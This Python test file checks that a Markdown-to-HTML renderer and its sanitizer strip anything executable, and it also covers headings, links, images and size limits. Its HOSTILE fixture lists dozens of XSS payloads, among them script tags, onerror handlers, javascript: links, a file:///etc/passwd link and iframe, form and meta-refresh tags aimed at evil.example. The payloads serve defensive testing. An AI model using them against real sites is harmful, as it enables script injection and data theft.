"""All of a rendered body passes the sanitizer, which lets nothing through that could run."""

import sys
from collections.abc import Callable
from types import FrameType

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skillpack.model.limits import Limits
from skillpack.parse.markdown.markup import KNOWN_TAGS
from skillpack.site.highlight import highlighted
from skillpack.site.markdown.render import (
    AS_SOURCE,
    CLEANER,
    fenced_front_matter,
    is_whole,
    parse_markdown,
    render_body,
)

# Whatever a body says, no page of ours gets an element or attribute beyond these.
ATTRIBUTES = {
    "alt", "aria-labelledby", "class", "colspan", "dir", "height", "href", "id", "loading", "open", "rel", "rowspan",
    "src", "start", "tabindex", "title", "width",
}  # fmt: skip

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script inline": "a <script>alert(1)</script> b",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script after a slash": "<script/src=//evil.example/x.js>",
    "script split by a comment": "<scr<!-- -->ipt>alert(1)</script>",
    "unclosed script": "<script>alert(1)",
    "closing script": "</script><script>alert(1)</script>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler in a broken tag": "<img src=x onerror=alert(1)//",
    "handler after a quote": '<a href="x" onclick="alert(1)">x</a>',
    "handler with a newline": "<b\nonmouseover\n=alert(1)>x</b>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "svg with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "plaintext": "<plaintext><b>x",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link with entities": "[x](&#106;avascript:alert(1))",
    "javascript link in HTML": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link with an entity": "<a href='java&#10;script:alert(1)'>x</a>",
    "javascript link with spaces": "<a href='  javascript:alert(1)'>x</a>",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "data image in HTML": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "file": "[x](file:///etc/passwd)",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe with srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=x></object><embed src=x>",
    "form": "<form action=https://evil.example><input name=q><button>x</button></form>",
    "form attributes": "<button formaction=javascript:alert(1)>x</button>",
    "base": "<base href=https://evil.example>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "style attribute": "<p style='background:url(https://evil.example)'>x</p>",
    "clobbering id": "<a id=location name=cookie>x</a><img name=body>",
    "clobbering heading": "# location\n\n# constructor\n\n# __proto__",
    "remote image": "![x](https://evil.example/track.png)",
    "remote image in HTML": "<img src=//evil.example/track.png srcset='https://evil.example/2x.png 2x'>",
    "background": "<table background=https://evil.example/x.png><td background=x>x</td></table>",
    "template syntax": "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %>",
    "title breaks out": '[x](y.md "\\"><script>alert(1)</script>")',
    "alt breaks out": '![\\"><script>alert(1)</script>](https://evil.example/x.png)',
    "info string breaks out": '```"><script>alert(1)</script>\nx\n```',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "nul": "a\x00b <scr\x00ipt>alert(1)</script>",
    "mark in an attribute": "<span title='\u200b\" onload=alert(1) x=\"'>x</span>",
    "mark in a link": '[x](https://e.example/\u200b" onload=alert(1))',
    "table in a paragraph": "<p><table><tr><td><script>alert(1)</script>",
    "unbalanced": "</div></main></body></html><div><b>",
}

_PIECES = [
    "word", " ", "\n", "\n\n", "- ", "1. ", "3. ", "> ", "# ", "## ", "```\n", "    ", "| a | b |\n|--|:-:|\n",
    "| x ", "[ ] ", "[x] ", "**b**", "*i*", "~~s~~", "`c`", "[a](b)", "[a](https://b.example/?c&d)",
    "[a](mailto:x@y.example)", "[a](b 't\"<&')", "[a](javascript:x)", "[![i](https://x.example/y.png)](z)",
    "![i](u)", "<https://x.example>", "<b>", "</b>", "<div>", "</div>", "<p>", "<example>", "<!-- c -->",
    "<a href=x>", "<script>", "<td>", "&nbsp;", "\xa0", "&lt;", "&", "<", ">", '"', "'", "\u200b", "\\\n", "---\n",
    "<details>", "<br>", "ü", "\x0c",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_leaves_only_harmless_elements(text, render, read) -> None:
    page = read(render(text).html)
    for tag, attrs in page.elements:
        assert tag in KNOWN_TAGS
        assert set(attrs) <= ATTRIBUTES
        assert attrs.get("id", "s-").startswith("s-")
        assert attrs.get("href", "#").startswith(("#", "https://", "http://", "mailto:"))
        assert tag != "img", "no file of the skill was linked, so there is no image"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_closes_nothing_around_it(text, render, read) -> None:
    open_tags: list[str] = []
    page = read(render(text).html)
    page.handle_starttag = lambda tag, _: (
        open_tags.append(tag) if tag not in {"img", "br", "hr", "wbr", "col"} else None
    )
    page.handle_endtag = lambda tag: open_tags.pop() == tag or pytest.fail(f"a stray </{tag}>")
    page.reset()
    page.feed(render(text).html)
    assert open_tags == []


@pytest.mark.parametrize("language", ["", "python", "bash", "json", "html", "markdown", "diff", "perl", "no-such"])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_code_leaves_only_harmless_elements(text, language, render, read) -> None:
    page = read(render(f"~~~{language}\n{text}\n~~~").html)
    for tag, attrs in page.elements:
        assert tag in {"figure", "i", "pre", "span"}
        assert set(attrs) <= {"class", "tabindex"}


@given(
    st.lists(
        st.sampled_from(
            ["<div>", "</div>", "<table>", "<td>", "<p>", "<b>", "<colgroup>", "<details>", "a|b\n-|-", "> ", "- "]
        ),
        max_size=12,
    )
)
def test_code_is_lost_nowhere(around) -> None:
    text = "\n\n".join(f"{each}\n\n```\ncode-{number}.\n```" for number, each in enumerate(around))
    html = render_body(text, link=lambda *_: None, highlight=highlighted, limits=Limits(), shift=2).html
    for number, _ in enumerate(around):
        assert html.count(f"code-{number}.") == 1


@given(st.text(st.sampled_from("<>/!-[]()`*_~#|&;:\"'= \n\tabhijrst\u200b\u202e{}%1.\\"), max_size=120))
def test_any_text_leaves_only_harmless_elements(text) -> None:
    rendered = render_body(text, link=lambda *_: None, highlight=highlighted, limits=Limits(), shift=2)
    assert "<script" not in rendered.html.lower()
    assert "\u200b" not in rendered.html
    assert "\u202e" not in rendered.html
    for _, anchor, _ in rendered.contents:
        assert f'id="{anchor}"' in rendered.html
    assert len({anchor for _, anchor, _ in rendered.contents}) == len(rendered.contents)


class TestHeadings:
    def test_begin_below_the_one_above(self, render, read) -> None:
        assert [tag for tag, _ in read(render("# A\n\n## B\n\n# C", shift=2).html).elements if tag != "a"] == [
            "h3",
            "h4",
            "h3",
        ]

    def test_skip_no_level_where_the_text_does(self, render, read) -> None:
        text = "### A\n\n###### B\n\n### C\n\n# D\n\n## E"
        tags = [tag for tag, _ in read(render(text, shift=1).html).elements if tag != "a"]
        assert tags == ["h2", "h3", "h2", "h2", "h3"]

    def test_end_at_the_lowest_level(self, render) -> None:
        assert "<h6" in render("# A\n\n## B\n\n### C\n\n#### D\n\n##### E", shift=4).html

    def test_have_unique_ids_numbered_as_on_github(self, render) -> None:
        contents = render("# Set up\n\n# Set up\n\n# Set-up 1\n\n# Set up").contents
        assert [anchor for _, anchor, _ in contents] == ["s-set-up", "s-set-up-1", "s-set-up-1-1", "s-set-up-2"]

    def test_without_words_still_have_an_id(self, render) -> None:
        assert [anchor for _, anchor, _ in render("# !\n\n# ...").contents] == ["s-section", "s-section-1"]

    def test_give_the_contents_with_levels_as_written(self, render) -> None:
        contents = render("Title\n=====\n\n## With `code` and *stress*").contents
        assert contents == ((1, "s-title", "Title"), (2, "s-with-code-and-stress", "With code and stress"))

    def test_in_other_scripts_keep_their_letters(self, render) -> None:
        assert render("# Überblick 概要").contents[0][1] == "s-überblick-概要"

    def test_in_raw_html_have_no_id(self, render) -> None:
        assert render("<h1 id=x>A</h1>").html.strip() == "<h3>A</h3>"

    def test_may_be_ten_thousand_of_one_name(self, render) -> None:
        assert len(render("# a\n" * 10_000).contents) == 10_000


class TestLinks:
    def test_lead_where_the_caller_says(self, render) -> None:
        assert '<a href="files/a.md/index.html">a</a>' in render("[a](a.md)", a_md="files/a.md/index.html").html

    def test_are_asked_for_without_escapes(self, render) -> None:
        assert 'href="x"' in render("[a](my%20notes.md)", **{"my notes_md": "x"}).html

    def test_in_html_lead_there_too(self, render) -> None:
        assert '<a href="x">a</a>' in render("<a href=a.md target=_top>a</a>", a_md="x").html

    def test_that_lead_nowhere_are_no_links_and_tell_where_they_point(self, render) -> None:
        assert '<a class="dead" title="gone.md">a</a>' in render("[a](gone.md)").html

    def test_to_other_sites_carry_rel(self, render) -> None:
        html = render("[a](https://example.com/x?y=1&z)").html
        assert '<a class="ext" href="https://example.com/x?y=1&amp;z" rel="nofollow noopener">a</a>' in html

    def test_without_a_scheme_become_https(self, render) -> None:
        assert 'href="https://example.com/x"' in render("[a](//example.com/x)").html

    def test_to_a_heading_find_it_under_its_prefix(self, render) -> None:
        assert '<a href="#s-step-1-go">a</a>' in render("[a](#step-1--go)\n\n# Step 1: go").html

    def test_to_a_heading_that_is_not_there_lead_nowhere(self, render) -> None:
        assert 'class="dead"' in render("[a](#nowhere)").html

    def test_as_bare_addresses_stay_text(self, render) -> None:
        assert "<a" not in render("see https://example.com/x").html


class TestImages:
    def test_of_the_skill_are_shown(self, render) -> None:
        html = render("![a **b**](logo.png 't')", logo_png="raw/logo.png").html
        assert '<img src="raw/logo.png" alt="a b" loading="lazy" title="t">' in html

    def test_from_elsewhere_become_links(self, render) -> None:
        html = render("![a](https://example.com/x.png)").html
        assert '<a class="ext" href="https://example.com/x.png" rel="nofollow noopener">a</a>' in html

    def test_that_are_not_there_become_their_words(self, render) -> None:
        assert '<span class="dead" title="gone.png">a</span>' in render("![a](gone.png)").html

    def test_in_html_obey_the_same_rules(self, render) -> None:
        assert (
            '<img src="r" alt="a" loading="lazy" width="20">'
            in render("<img src=l.png alt=a width=20>", l_png="r").html
        )


class TestWhatAgentsReadAndBrowsersHide:
    def test_unknown_tags_are_shown(self, render) -> None:
        assert 'git checkout <span class="tag">&lt;branch&gt;</span>' in render("git checkout <branch>").html

    def test_markdown_between_unknown_tags_stays_markdown(self, render) -> None:
        html = render("<Good>\n```python\nx\n```\n**right**\n</Good>").html
        assert '<span class="tag own">&lt;Good&gt;</span>' in html
        assert '<figure class="code">' in html
        assert "<strong>right</strong>" in html

    def test_comments_are_shown(self, render) -> None:
        assert '<span class="comment">&lt;!-- psst --&gt;</span>' in render("a <!-- psst --> b").html
        assert (
            '<div class="comment"><span class="comment">&lt;!-- a\n\nb --&gt;</span></div>'
            in render("<!-- a\n\nb -->").html
        )

    def test_comments_inside_html_are_shown(self, render) -> None:
        assert "&lt;!-- psst --&gt;" in render("<div>\n<!-- psst -->\n</div>").html

    def test_unclosed_comments_are_shown(self, render) -> None:
        assert "&lt;!-- psst" in render("<!-- psst\n\n# A").html

    @pytest.mark.parametrize("text", ["<?php psst ?>", "<!DOCTYPE psst>", "<![CDATA[ psst ]]>"])
    def test_other_declarations_are_shown(self, text, render) -> None:
        assert "psst" in render(text).html

    def test_scripts_are_shown_as_source(self, render) -> None:
        assert "alert(1)" in render("<script>\nalert(1)\n</script>").html

    def test_invisible_characters_are_shown_in_text_code_and_titles(self, render) -> None:
        html = render("a\u200bb `c\u202ed`\n\n```\ne\u2066f\n```\n\n[g](x 'h\U000e0041i')").html
        for name in ("U+200B", "U+202E", "U+2066"):
            assert f'<span class="unseen">{name}</span>' in html
        assert 'title="h⟦U+E0041⟧i"' in html

    def test_joiners_inside_words_that_need_them_stay(self, render) -> None:
        text = "\u0645\u06cc\u200c\u062e\u0648 👩\u200d🔬"  # Persian, and an emoji of two
        assert render(text).html == f"<p>{text}</p>\n"


class TestMarkup:
    def test_table_alignment_becomes_a_class(self, render) -> None:
        html = render("| a | b |\n| ---: | :-: |\n| 1 | 2 |").html
        assert '<td class="end">1</td>\n<td class="mid">2</td>' in html
        assert "style" not in html

    def test_tasks_get_boxes(self, render) -> None:
        html = render("- [ ] **open**\n- [x] done\n- [y] none").html
        assert '<li class="todo"><span class="box">☐</span> <strong>open</strong></li>' in html
        assert '<li class="todo"><span class="box">☑</span> done</li>' in html
        assert "<li>[y] none</li>" in html

    def test_strikethrough(self, render) -> None:
        assert "<s>gone</s>" in render("~~gone~~").html

    def test_code_is_painted_by_the_caller(self) -> None:
        rendered = render_body(
            "```py title\nx\n```", link=lambda *_: None, highlight=lambda c, n: f"{n}:{c}", limits=Limits(), shift=2
        )
        assert rendered.html == '<figure class="code"><pre tabindex="0">py:x\n</pre></figure>\n'

    def test_details_keep_their_content(self, render) -> None:
        html = render("<details open>\n<summary>S</summary>\n\n**x**\n\n</details>").html
        assert '<details open="">\n<summary>S</summary>\n<p><strong>x</strong></p>\n</details>' in html

    def test_landmarks_become_plain_boxes(self, render) -> None:
        assert render("<main align=center>x</main>").html == '<div class="mid">x</div>'

    def test_an_empty_text_is_nothing(self, render) -> None:
        assert render("").html == ""


class TestLimits:
    def test_a_long_text_is_shown_as_source(self, render) -> None:
        rendered = render("# <b>\n" * 10, limits=Limits(body=40))
        assert rendered.html.startswith(AS_SOURCE)
        assert "# &lt;b&gt;" in rendered.html
        assert rendered.contents == ()

    def test_deep_quotes_are_shown_as_source(self, render) -> None:
        assert not render("> " * 20 + "x").html.startswith(AS_SOURCE)
        assert render("> " * 21 + "x").html.startswith(AS_SOURCE)

    def test_deep_lists_are_shown_as_source(self, render) -> None:
        assert not render("- " * 32 + "x").html.startswith(AS_SOURCE)
        assert render("- " * 33 + "x").html.startswith(AS_SOURCE)

    def test_deep_html_is_shown_as_source(self, render) -> None:
        assert not render("<div>\n" * 20).html.startswith(AS_SOURCE)
        assert render("<div>\n" * 21).html.startswith(AS_SOURCE)
        assert render("<div></b>\n" * 21).html.startswith(AS_SOURCE)

    def test_html_that_closes_by_itself_is_not_deep(self, render) -> None:
        assert not render("<table>\n" + "<tr><td>x\n" * 500 + "</table>").html.startswith(AS_SOURCE)
        assert not render("a<br><img src=x>" * 500).html.startswith(AS_SOURCE)

    def test_very_many_tags_are_shown_as_source(self, render) -> None:
        assert render("<div><table><td></div></table>\n" * 5000).html.startswith(AS_SOURCE)

    def test_quotes_and_lists_together_lose_nothing(self, render) -> None:
        assert "x" in render("> " * 20 + "- " * 32 + "x").html

    def test_a_text_that_the_parser_would_cut_is_shown_as_source(self, render) -> None:
        # Behind a table the parser begins a list with 2, which interrupts no paragraph.
        rows = "".join(f"{'   ' * level}|---|\n{'   ' * level}2. | a |\n" for level in range(60))
        assert render(f"| a |\n{rows}").html.startswith(AS_SOURCE)

    def test_a_vast_table_is_shown_as_source(self, render) -> None:
        table = "|a" * 50 + "|\n" + "|-" * 50 + "|\n" + "|b|\n" * 500
        assert render(table).html.startswith(AS_SOURCE)
        assert not render(table, limits=Limits(table_cells=100_000)).html.startswith(AS_SOURCE)

    def test_very_many_marks_are_shown_as_source(self, render) -> None:
        assert render("[a](" * 25_001).html.startswith(AS_SOURCE)
        assert not render("[a](" * 100).html.startswith(AS_SOURCE)

    @pytest.mark.parametrize(
        "piece",
        [
            "- ",
            "> ",
            "> - ",
            "[",
            "![",
            "[a](",
            "*a **b ",
            "<",
            "<!--",
            "a <!--",
            "a <![CDATA[",
            "<a ",
            "<div>\n",
            "<b>",
            "`a``",
            "~~a ",
            "**a ",
            "a_",
            "[a](b ",
            "[a](http://b",
            "a\n",
            "- a\n",
            "1. a\n\n",
            "|-\n",
        ],
    )
    def test_time_grows_with_the_length(self, piece, render) -> None:
        """Time is what `tests/benchmarks/worst.py` measures; here, the lines that run are counted."""

        def lines(characters: int) -> int:
            text, ran, before = piece * (characters // len(piece)) + "x", 0, sys.gettrace()

            def trace(_frame: FrameType, event: str, _argument: object) -> Callable[..., object]:
                nonlocal ran
                ran += event == "line"
                return trace

            sys.settrace(trace)
            try:
                render(text)
            finally:
                sys.settrace(before)
            return ran

        assert lines(4000) < 2 * 8 * lines(500)  # linear is 8, quadratic 64


class TestFrontMatter:
    def test_becomes_a_block_of_code(self) -> None:
        assert fenced_front_matter("---\nname: x\n---\n# X\n") == "~~~~~~yaml\nname: x\n~~~~~~\n# X\n"

    @pytest.mark.parametrize("text", ["# X\n", "---\n", "---\n---\n", "a\n---\nb\n---\n", "---\n~~~~~~\n---\n", ""])
    def test_what_is_none_stays(self, text) -> None:
        assert fenced_front_matter(text) == text


def _html(text: str, painted: str = "code") -> str:
    return render_body(
        text,
        link=lambda target, _: f"../{target}",
        highlight=lambda *_: painted,
        limits=Limits(),
        shift=2,
    ).html


@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join))
def test_bodies_are_as_the_sanitizer_leaves_them(text: str) -> None:
    html = _html(text)
    assert CLEANER.clean(html) == html


@pytest.mark.parametrize(
    ("html", "safe"),
    [
        ("<script>x</script>", "x"),
        ("<style>p {}</style>", "p {}"),
        ("<iframe></iframe>", ""),
        ('<p onclick="x">a</p>', "<p>a</p>"),
        ('<p class="top">a</p>', '<p class="">a</p>'),
        ('<a href="javascript:x">a</a>', "<a>a</a>"),
        ('<a href=" javascript:x">a</a>', "<a>a</a>"),
        ('<a href="data:x">a</a>', "<a>a</a>"),
        ('<a href="b"><a href="c">d</a></a>', '<a href="b"></a><a href="c">d</a>'),
        ("<P>\xa0</P>", "<p>&nbsp;</p>"),
        ("<em>a", "<em>a</em>"),
    ],
)
def test_what_could_run_does_not_pass(html: str, safe: str) -> None:
    assert CLEANER.clean(html) == safe


@pytest.mark.parametrize(
    "html",
    [
        '<ol start="3">\n<li class="todo">a &amp; b</li>\n</ol>\n',
        '<a class="ext" href="https://x.example/?a&amp;b" rel="nofollow noopener" title="&quot;">a <em>b</em></a>',
        '<h3 id="s-é">é<a class="anchor" href="#s-é" aria-labelledby="s-é">#</a></h3>\n',
        '<figure class="code"><pre tabindex="0"><i class="hk">5</i>.</pre></figure>\n',
        "<hr>\n<blockquote>\n</blockquote>\n",
    ],
)
def test_html_of_ours_stays_as_it_is(html: str) -> None:
    assert CLEANER.clean(html) == html


def test_painted_code_passes_it_too() -> None:
    painted = "<i class=hk>a</i><script>x</script>\xa0"
    html = '<figure class="code"><pre tabindex="0"><i class="hk">a</i>x&nbsp;</pre></figure>\n'
    assert _html("```py\na\n```", painted) == html
    assert _html("<b>\n\n```py\na\n```", painted).count("x&nbsp;</pre>") == 1


def _kinds(text: str, *, nesting: int = 20, list_depth: int = 32) -> list[str]:
    return [token.type for token in parse_markdown(text, nesting=nesting, list_depth=list_depth)]


def test_unknown_tags_begin_no_block_of_html() -> None:
    paragraph = ["paragraph_open", "inline", "paragraph_close"]
    assert _kinds("<example>\n*a*\n</example>") == paragraph
    assert _kinds("*a*\n<example>\n*b*") == paragraph
    assert _kinds("<div>\n*a*\n</div>") == _kinds("<!-- *a* -->") == ["html_block"]


def test_tables_and_struck_out_words_are_known() -> None:
    assert _kinds("| a |\n|--|\n")[0] == "table_open"
    assert [child.type for child in parse_markdown("~~a~~", nesting=20, list_depth=32)[1].children or ()] == [
        "s_open",
        "text",
        "s_close",
    ]


def test_text_deeper_than_any_page_shows_is_dropped() -> None:
    assert "inline" in _kinds("- " * 40 + "a")
    assert "inline" not in _kinds("- " * 60 + "a", nesting=2, list_depth=3)


def test_a_text_of_which_some_is_dropped_is_not_whole() -> None:
    for depth in range(1, 60):
        tokens = parse_markdown("- " * depth + "a", nesting=2, list_depth=3)
        assert is_whole(tokens, nesting=2, list_depth=3) is any(token.type == "inline" for token in tokens)


def test_inline_text_nests_less_than_blocks() -> None:
    deep = parse_markdown("[![" * 20 + "a" + "](b)](c)" * 20, nesting=20, list_depth=32)[1].children or ()
    assert [child.type for child in deep] == ["text", "image", "text"]
